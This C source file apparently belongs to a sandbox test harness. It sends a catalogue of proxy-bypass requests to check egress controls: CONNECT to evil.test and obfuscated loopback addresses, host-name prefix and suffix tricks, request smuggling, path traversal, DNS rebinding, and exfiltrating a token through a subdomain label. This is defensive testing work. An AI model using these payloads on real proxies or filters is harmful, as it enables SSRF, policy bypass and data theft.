/*
 * What is said to the proxy that stands between a job and the network. Where there is none (no sandbox), the same bytes go
 * straight to where they should not get; where there is no network, they go nowhere.
 *
 * allowed.test:web is the only place that the harness's policy allows, by GET below /public; rebind.test, too, but its
 * address changes. In requests %T is the token, %P the port of the host's forbidden service, %W that of the allowed one, %0 a
 * NUL; "\n--\n" waits for an answer, "\n==\n" takes a new connection as well.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "trick.h"

enum { PROXY_PORT = 3128, ANSWER_MS = 500, REQUEST_MAX = 4096 };

static int dial(long port)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons((uint16_t)port),
				  .sin_addr = { htonl(INADDR_LOOPBACK) } };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd >= 0 && connect(fd, (struct sockaddr *)&to, sizeof to) < 0) {
		close(fd);
		return -1;
	}
	return fd;
}

static void put(char *out, size_t *n, const char *bytes, size_t size)
{
	for (size_t i = 0; i < size && *n < REQUEST_MAX; i++)
		out[(*n)++] = bytes[i];
}

static void put_text(char *out, size_t *n, const char *text)
{
	put(out, n, text, strlen(text));
}

static const char *value_of(char letter)
{
	static const struct {
		char letter;
		const char *key;
	} values[] = { { 'T', "token" }, { 'P', "tcp" }, { 'W', "web" } };

	for (size_t i = 0; i < sizeof values / sizeof values[0]; i++)
		if (values[i].letter == letter)
			return given(values[i].key);
	return NULL;
}

/* The bytes of one step; *text is moved behind it. */
static size_t expand(char out[REQUEST_MAX], const char **text, const char *end)
{
	size_t n = 0;

	for (; *text < end; ++*text) {
		if (**text != '%') {
			put(out, &n, *text, 1);
			continue;
		}
		++*text;
		if (**text == '0')
			put(out, &n, "", 1);
		else if (value_of(**text))
			put_text(out, &n, value_of(**text));
		else
			put(out, &n, *text, 1);
	}
	return n;
}

static void answer(int fd)
{
	struct pollfd wait = { fd, POLLIN, 0 };
	char bytes[4096];

	if (poll(&wait, 1, ANSWER_MS) > 0) {
		ssize_t n = recv(fd, bytes, sizeof bytes, MSG_DONTWAIT);

		if (n > 0)
			say_bytes(bytes, (size_t)n);
	}
}

static const char *step_end(const char *text, bool *again)
{
	const char *wait = strstr(text, "\n--\n"), *anew = strstr(text, "\n==\n");

	*again = anew && (!wait || anew < wait);
	return *again ? anew : wait ? wait : text + strlen(text);
}

static int ask(int fd, const char *text)
{
	while (*text) {
		char bytes[REQUEST_MAX];
		bool again;
		const char *end = step_end(text, &again);
		size_t n = expand(bytes, &text, end);

		(void)!send(fd, bytes, n, MSG_NOSIGNAL);
		answer(fd);
		if (*text)
			text += 4;
		if (again) {
			close(fd);
			fd = dial(PROXY_PORT);
		}
	}
	close(fd);
	return 0;
}

/* `direct` is what happens without a proxy. */
static int by_proxy(const char *text, int (*direct)(void))
{
	int fd = dial(PROXY_PORT);

	return fd < 0 ? direct() : ask(fd, text);
}

static int to_forbidden(void)
{
	return send_token(dial(given_number("tcp")));
}

static int to_private(void)
{
	int fd = dial(given_number("web"));

	return fd < 0 ? 1 : ask(fd, "GET /private/%T HTTP/1.1\r\nHost: allowed.test\r\n\r\n");
}

static int to_resolver(void)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons((uint16_t)given_number("udp")),
				  .sin_addr = { htonl(INADDR_LOOPBACK) } };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	return fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof to) < 0 ? 1 : send_token(fd);
}

/* id, where it goes without a proxy, the effect, title, what is said */
#define GET_ALLOWED "GET http://allowed.test:%W/public/a HTTP/1.1\r\nHost: allowed.test:%W\r\n"
#define PROXY_TRICKS(X)                                                                                           \
	/* not a trick: what is allowed must pass, or the others prove nothing */                                 \
	X(X00, to_private, "control", "the allowed request",                                                      \
	  "GET http://allowed.test:%W/public/%T HTTP/1.1\r\nHost: allowed.test:%W\r\n\r\n")                       \
	X(X01, to_forbidden, "bytes", "CONNECT to an address",                                                    \
	  "CONNECT 127.0.0.1:%P HTTP/1.1\r\nHost: 127.0.0.1:%P\r\n\r\n\n--\n%T")                                  \
	X(X02, to_forbidden, "bytes", "CONNECT to another name",                                                  \
	  "CONNECT evil.test:%P HTTP/1.1\r\nHost: evil.test:%P\r\n\r\n\n--\n%T")                                  \
	X(X03, to_forbidden, "bytes", "a NUL in the name",                                                        \
	  "CONNECT evil.test%0.allowed.test:%P HTTP/1.1\r\nHost: allowed.test\r\n\r\n\n--\n%T")                   \
	X(X04, to_forbidden, "bytes", "the allowed name as prefix",                                               \
	  "CONNECT allowed.test.evil.test:%P HTTP/1.1\r\nHost: allowed.test\r\n\r\n\n--\n%T")                     \
	X(X05, to_forbidden, "bytes", "the allowed name as suffix",                                               \
	  "CONNECT evilallowed.test:%P HTTP/1.1\r\nHost: allowed.test\r\n\r\n\n--\n%T")                           \
	X(X06, to_forbidden, "bytes", "an address as a decimal number",                                           \
	  "CONNECT 2130706433:%P HTTP/1.1\r\nHost: 2130706433:%P\r\n\r\n\n--\n%T")                                \
	X(X07, to_forbidden, "bytes", "an address in hex and in octal",                                           \
	  "CONNECT 0x7f.0.0.1:%P HTTP/1.1\r\nHost: x\r\n\r\n\n--\n%T\n==\n"                                       \
	  "CONNECT 0177.0.0.1:%P HTTP/1.1\r\nHost: x\r\n\r\n\n--\n%T")                                            \
	X(X08, to_forbidden, "bytes", "an address mapped into IPv6",                                              \
	  "CONNECT [::ffff:127.0.0.1]:%P HTTP/1.1\r\nHost: x\r\n\r\n\n--\n%T")                                    \
	X(X09, to_forbidden, "bytes", "localhost",                                                                \
	  "CONNECT localhost:%P HTTP/1.1\r\nHost: localhost:%P\r\n\r\n\n--\n%T")                                  \
	X(X10, to_forbidden, "bytes", "the allowed name with a dot behind",                                       \
	  "CONNECT allowed.test.:%P HTTP/1.1\r\nHost: allowed.test.\r\n\r\n\n--\n%T")                             \
	X(X11, to_forbidden, "bytes", "the allowed name, another port",                                           \
	  "CONNECT allowed.test:%P HTTP/1.1\r\nHost: allowed.test:%W\r\n\r\n\n--\n%T")                            \
	X(X12, to_forbidden, "bytes", "the allowed name as user",                                                 \
	  "CONNECT allowed.test:%W@127.0.0.1:%P HTTP/1.1\r\nHost: allowed.test:%W\r\n\r\n\n--\n%T")               \
	X(X13, to_forbidden, "bytes", "another URL, the allowed Host",                                            \
	  "GET http://127.0.0.1:%P/%T HTTP/1.1\r\nHost: allowed.test:%W\r\n\r\n")                                 \
	X(X14, to_forbidden, "bytes", "the allowed URL, another Host",                                            \
	  "GET http://allowed.test:%W/public/%T HTTP/1.1\r\nHost: 127.0.0.1:%P\r\n\r\n")                          \
	X(X15, to_forbidden, "bytes", "a second request to another host on one connection",                       \
	  GET_ALLOWED                                                                                             \
	  "\r\n\n--\nGET http://127.0.0.1:%P/%T HTTP/1.1\r\nHost: 127.0.0.1:%P\r\n\r\n")                          \
	X(X16, to_private, "served", "two lengths: a request within a request",                                   \
	  GET_ALLOWED "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"                          \
		      "GET /private/%T HTTP/1.1\r\nHost: allowed.test:%W\r\n\r\n")                                \
	X(X17, to_private, "served", "two Content-Lengths",                                                       \
	  GET_ALLOWED "Content-Length: 0\r\nContent-Length: 90\r\n\r\n"                                           \
		      "GET /private/%T HTTP/1.1\r\nHost: allowed.test:%W\r\n\r\n")                                \
	X(X18, to_private, "served", "..%2f in the path",                                                         \
	  "GET http://allowed.test:%W/public/..%%2fprivate/%T HTTP/1.1\r\nHost: allowed.test:%W\r\n\r\n")         \
	X(X19, to_private, "served", ".. in the path",                                                            \
	  "GET http://allowed.test:%W/public/../private/%T HTTP/1.1\r\nHost: allowed.test:%W\r\n\r\n")            \
	X(X20, to_private, "served", "a path encoded twice",                                                      \
	  "GET http://allowed.test:%W/public/%%252e%%252e/private/%T HTTP/1.1\r\nHost: allowed.test:%W\r\n\r\n")  \
	X(X21, to_private, "served", "a bare CR in a header",                                                     \
	  GET_ALLOWED "X: a\rGET /private/%T HTTP/1.1\r\r\n\r\n")                                                 \
	X(X22, to_private, "served", "another method",                                                            \
	  "POST http://allowed.test:%W/public/%T HTTP/1.1\r\nHost: allowed.test:%W\r\nContent-Length: 0\r\n\r\n") \
	X(X23, to_private, "served", "a method in small letters",                                                 \
	  "post http://allowed.test:%W/public/%T HTTP/1.1\r\nHost: allowed.test:%W\r\nContent-Length: 0\r\n\r\n") \
	X(X24, to_forbidden, "bytes", "a backslash in the URL",                                                   \
	  "GET http://allowed.test:%W\\@127.0.0.1:%P/public/%T HTTP/1.1\r\nHost: allowed.test:%W\r\n\r\n")        \
	X(X25, to_forbidden, "bytes", "a fragment in the URL",                                                    \
	  "GET http://127.0.0.1:%P#@allowed.test:%W/public/%T HTTP/1.1\r\nHost: allowed.test:%W\r\n\r\n")         \
	X(X26, to_private, "served", "two slashes in the path",                                                   \
	  "GET http://allowed.test:%W//private/%T HTTP/1.1\r\nHost: allowed.test:%W\r\n\r\n")                     \
	X(X27, to_forbidden, "bytes", "a redirect to another host",                                               \
	  "GET http://allowed.test:%W/public/redirect-%T HTTP/1.1\r\nHost: allowed.test:%W\r\n\r\n")              \
	X(X28, to_forbidden, "bytes", "an allowed name whose address changes",                                    \
	  "GET http://rebind.test:%W/public/a HTTP/1.1\r\nHost: rebind.test:%W\r\n\r\n\n==\n"                     \
	  "GET http://rebind.test:%W/public/%T HTTP/1.1\r\nHost: rebind.test:%W\r\n\r\n")                         \
	X(X29, to_resolver, "asked", "a question for a name that carries bytes",                                  \
	  "CONNECT %T.evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n")                                         \
	X(X30, to_resolver, "asked", "the same below the allowed name",                                           \
	  "GET http://%T.allowed.test:%W/public/a HTTP/1.1\r\nHost: %T.allowed.test:%W\r\n\r\n")                  \
	X(X31, to_private, "served", "an upgrade of the connection",                                              \
	  GET_ALLOWED "Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n\n--\n"                                   \
		      "GET /private/%T HTTP/1.1\r\nHost: allowed.test\r\n\r\n")                                   \
	X(X32, to_private, "served", "a tunnel to the allowed service, then another path",                        \
	  "CONNECT allowed.test:%W HTTP/1.1\r\nHost: allowed.test:%W\r\n\r\n\n--\n"                               \
	  "GET /private/%T HTTP/1.1\r\nHost: allowed.test\r\n\r\n")                                               \
	X(X33, to_forbidden, "bytes", "a request as to a server",                                                 \
	  "GET /%T HTTP/1.1\r\nHost: 127.0.0.1:%P\r\n\r\n")                                                       \
	X(X34, to_forbidden, "bytes", "another scheme",                                                           \
	  "GET ftp://127.0.0.1:%P/%T HTTP/1.1\r\nHost: 127.0.0.1:%P\r\n\r\n")                                     \
	X(X35, to_forbidden, "bytes", "HTTP/0.9", "GET http://127.0.0.1:%P/%T\r\n")                               \
	X(X36, to_forbidden, "bytes", "HTTP/2 to the proxy",                                                      \
	  "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nGET http://127.0.0.1:%P/%T HTTP/1.1\r\nHost: x\r\n\r\n")

#define X(id, direct, effect, title, text)     \
	static int run_##id(void)              \
	{                                      \
		return by_proxy(text, direct); \
	}
PROXY_TRICKS(X)
#undef X

const struct trick proxy_tricks[] = {
#define X(id, direct, effect, title, text) { #id, "proxy", effect, title, run_##id },
	PROXY_TRICKS(X)
#undef X
		{ 0 },
};
